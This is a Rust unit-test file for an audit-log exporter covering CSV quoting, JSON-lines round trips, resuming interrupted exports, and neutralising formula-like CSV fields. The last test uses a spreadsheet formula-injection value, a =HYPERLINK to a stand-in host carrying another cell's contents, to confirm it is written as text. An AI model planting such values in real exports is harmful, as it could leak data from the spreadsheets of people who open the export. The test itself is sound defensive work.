use super::*;

fn entry(payload: serde_json::Value) -> AuditEntry {
    AuditEntry {
        global_position: 7,
        aggregate_type: "order".into(),
        aggregate_id: "a".into(),
        sequence: 2,
        event_id: Uuid::nil(),
        event_type: "OrderPlaced".into(),
        event_version: "1".into(),
        occurred_at: DateTime::from_timestamp(1_700_000_000, 0).unwrap(),
        actor: "user:1".into(),
        correlation_id: "c".into(),
        causation_id: "d".into(),
        traceparent: "00-x".into(),
        payload,
    }
}

#[test]
fn csv_quotes_what_needs_quoting_and_json_lines_round_trip() {
    let e = entry(serde_json::json!({"note": "a, \"b\"\nc"}));
    let csv = e.csv_line();
    assert!(csv.starts_with("7,order,a,2,"), "{csv}");
    assert!(
        csv.ends_with("\"{\"\"note\"\":\"\"a, \\\"\"b\\\"\"\\nc\"\"}\"\r\n"),
        "{csv}"
    );
    assert_eq!(CSV_HEADER.split(',').count(), 13);
    let fields: Vec<&str> = csv.splitn(13, ',').collect();
    assert_eq!(fields.len(), 13);
    assert_eq!(fields[7], "2023-11-14T22:13:20.000000Z");
    assert!(fields[12].starts_with('"'), "the payload is quoted: {csv}");
    let line = e.json_line();
    let back: serde_json::Value = serde_json::from_str(line.trim_end()).unwrap();
    assert_eq!(back["global_position"], 7);
    assert_eq!(back["payload"]["note"], "a, \"b\"\nc");
}

#[test]
fn an_export_resumes_after_its_last_record() {
    let e = entry(serde_json::json!({}));
    assert_eq!(last_position(&e.json_line()), Some(7));
    assert_eq!(
        last_position(&format!("{CSV_HEADER}\r\n{}", e.csv_line())),
        Some(7)
    );
    assert_eq!(last_position(&format!("{CSV_HEADER}\r\n")), None);
    assert_eq!(last_position(""), None);
}

/// A file an interrupted export left with half a line: the resume truncates to the last
/// whole line and goes on after its record, reading only the end of the file. Before, the
/// whole file was read into memory, and a cut line named no position, so the export
/// started again from the beginning, appending every entry a second time.
#[test]
fn a_resumed_file_ends_at_its_last_whole_line() {
    let whole = |text: &str| {
        let mut file = std::io::Cursor::new(text.as_bytes().to_vec());
        last_complete_line(&mut file).unwrap()
    };
    let e = entry(serde_json::json!({"note": "x".repeat(200_000)}));
    let two = format!("{}{}", e.json_line(), e.json_line());
    let cut = format!("{two}{{\"global_position\": 9, \"payl");
    let (end, line) = whole(&cut);
    assert_eq!(end, two.len() as u64, "truncated to the whole lines");
    assert_eq!(last_position(&line), Some(7));
    assert_eq!(whole(&two).0, two.len() as u64);
    assert_eq!(
        whole("{\"global_position\": 3}\n").1,
        "{\"global_position\": 3}"
    );
    assert_eq!(whole("half a li"), (0, String::new()));
    assert_eq!(whole(""), (0, String::new()));
    let csv = format!("{CSV_HEADER}\r\n{}", e.csv_line());
    let (end, line) = whole(&csv);
    assert_eq!((end, last_position(&line)), (csv.len() as u64, Some(7)));
}

/// A field a spreadsheet would evaluate (a correlation id a client sent as a formula) is
/// written as text; before, opening the export ran it with the other rows in reach.
#[test]
fn csv_fields_that_look_like_formulas_are_written_as_text() {
    let mut e = entry(serde_json::json!({}));
    e.correlation_id = "=HYPERLINK(\"https://example.invalid/?\"&M5)".into();
    e.causation_id = "@SUM(1+1)".into();
    e.actor = "-2+3".into();
    e.traceparent = "+1".into();
    let csv = e.csv_line();
    let fields: Vec<&str> = csv.splitn(13, ',').collect();
    assert_eq!(fields[8], "'-2+3");
    assert_eq!(
        fields[9],
        "\"'=HYPERLINK(\"\"https://example.invalid/?\"\"&M5)\""
    );
    assert_eq!(fields[10], "'@SUM(1+1)");
    assert_eq!(fields[11], "'+1");
    // The resumable position stays a plain number.
    assert!(csv.starts_with("7,order,a,2,"), "{csv}");
}
